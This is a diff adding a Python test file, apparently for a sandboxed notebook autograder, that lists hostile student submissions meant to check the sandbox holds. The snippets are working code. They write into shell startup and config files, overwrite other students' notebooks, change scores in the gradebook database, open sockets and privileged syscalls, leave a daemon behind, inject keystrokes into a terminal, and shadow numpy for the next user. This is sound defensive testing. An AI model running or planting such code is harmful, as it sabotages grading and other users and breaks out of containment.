@@ -1,0 +1,163 @@
+"""Attempts to act outside: files, network, processes."""
+
+from tests.hostile.attack import FULL, Attack, answered, unanswered
+
+WRITE_EVERYWHERE = """
+import os
+
+home = os.path.expanduser("~")
+targets = [
+    os.path.join(home, name)
+    for name in (".bashrc", ".profile", ".ipython/profile_default/startup/00-first.py")
+]
+here = os.getcwd()
+for _ in range(5):
+    here = os.path.dirname(here)
+    targets += [
+        os.path.join(here, name)
+        for name in ("nbgrader_config.py", "sitecustomize.py", "source/losses/own.py", "secret")
+    ]
+for path in targets:
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "a") as file:
+            file.write("# written by a student\\n")
+        print("WROTE", path)
+    except OSError as error:
+        print(error)
+"""
+OTHERS = """
+import glob, os
+
+here = os.getcwd()
+while here != "/":
+    here = os.path.dirname(here)
+    for path in glob.glob(here + "/submitted/*honest*/*/*.ipynb"):
+        print("WROTE", path)
+        open(path, "w").write("{}")
+"""
+GRADEBOOK = """
+import glob, os, sqlite3
+
+here = os.getcwd()
+while here != "/":
+    here = os.path.dirname(here)
+    for path in glob.glob(here + "/gradebook.db"):
+        book = sqlite3.connect(path, timeout=2)
+        book.execute("update grade set manual_score = 3, needs_manual_grade = 0")
+        book.commit()
+        print("WROTE", path)
+"""
+CONNECT = """
+import socket
+
+for port in range(47170, 47180):
+    for address in ("127.0.0.1", "::1"):
+        try:
+            socket.create_connection((address, port), timeout=0.5).sendall(b"answers, please")
+            print("REACHED", address, port)
+        except OSError as error:
+            reason = error
+print(reason)
+try:
+    print("REACHED", socket.getaddrinfo("example.org", 80))
+except OSError as error:
+    print(error)
+"""
+OTHER_SOCKETS = """
+import socket
+
+try:
+    local = socket.socket(socket.AF_UNIX)
+    local.connect("\\0hostile-listener")
+    print("REACHED the listener")
+except OSError as error:
+    print(error)
+for family in ("AF_VSOCK", "AF_NETLINK", "AF_PACKET", "AF_BLUETOOTH", "AF_CAN", "AF_ALG"):
+    try:
+        socket.socket(getattr(socket, family), socket.SOCK_RAW)
+        print("OPENED", family)
+    except (AttributeError, OSError) as error:
+        print(family, error)
+"""
+DAEMON = """
+import ctypes, os, signal, time
+
+if os.fork() == 0:
+    os.setsid()
+    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
+        signal.signal(number, signal.SIG_IGN)
+    if os.fork() == 0:
+        ctypes.CDLL(None).prctl(15, b"hostile-left", 0, 0, 0)
+        os.closerange(0, 64)
+        time.sleep(600)
+    os._exit(0)
+"""
+NAMESPACES = """
+import ctypes, errno, os
+
+libc = ctypes.CDLL(None, use_errno=True)
+calls = {
+    "unshare": lambda: libc.unshare(0x10000000),
+    "mount": lambda: libc.mount(b"/", b"/tmp", b"none", 4096, None),
+    "pivot_root": lambda: libc.syscall(155, b"/tmp", b"/tmp"),
+    "setuid": lambda: libc.setuid(0),
+    "keyctl": lambda: libc.syscall(250, 0, -3, 0),
+    "open_by_handle_at": lambda: libc.syscall(304, -100, 0, 0),
+    "memfd_create": lambda: libc.memfd_create(b"x", 0),
+    "bpf": lambda: libc.syscall(321, 0, 0, 0),
+    "io_uring_setup": lambda: libc.syscall(425, 1, 0),
+}
+for name, call in calls.items():
+    if name != "memfd_create" and call() >= 0:
+        print("ALLOWED", name)
+print(sorted(os.listdir("/proc")))
+for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel"):
+    if os.path.exists(path):
+        print("READ", path)
+"""
+TERMINAL = """
+import fcntl, os, termios
+
+for path in ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/pts/0"):
+    try:
+        terminal = os.open(path, os.O_RDWR | os.O_NONBLOCK)
+        for letter in b"touch ~/pushed\\n":
+            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
+        print("WROTE", path)
+    except OSError as error:
+        print(path, error)
+"""
+NEXT_NOTEBOOK = """
+import builtins, glob, os, sys
+import numpy
+
+numpy.mean = builtins.sum = lambda *arguments, **options: 0.0
+os.environ["PYTHONSTARTUP"] = "/tmp/own.py"
+for folder in ("/tmp", "/dev/shm", "/work", "/grader", "/packages/0", sys.prefix, sys.path[-1]):
+    for name in ("numpy.py", "sitecustomize.py", "own.py"):
+        try:
+            open(os.path.join(folder, name), "w").write("raise SystemExit('shadowed')")
+        except OSError:
+            pass
+"""
+
+ATTACKS = (
+    Attack("writes", "writes into home, course and configuration", answered(WRITE_EVERYWHERE)),
+    Attack("overwrites-others", "overwrites other submissions", answered(OTHERS)),
+    Attack(
+        "writes-gradebook",
+        "gives itself points in the gradebook",
+        unanswered(GRADEBOOK),
+        0,
+        "Nothing was written.",
+    ),
+    Attack("connects", "connects to the machine and the world", answered(CONNECT)),
+    Attack("other-sockets", "connects by other kinds of socket", answered(OTHER_SOCKETS)),
+    Attack("daemon", "leaves a process behind", answered(DAEMON)),
+    Attack("system-calls", "asks the system for more rights", answered(NAMESPACES)),
+    Attack("terminal", "types into the instructor's terminal", answered(TERMINAL)),
+    Attack(
+        "next-notebook", "tampers with whoever runs next", answered(NEXT_NOTEBOOK), FULL, up_to=1
+    ),
+)
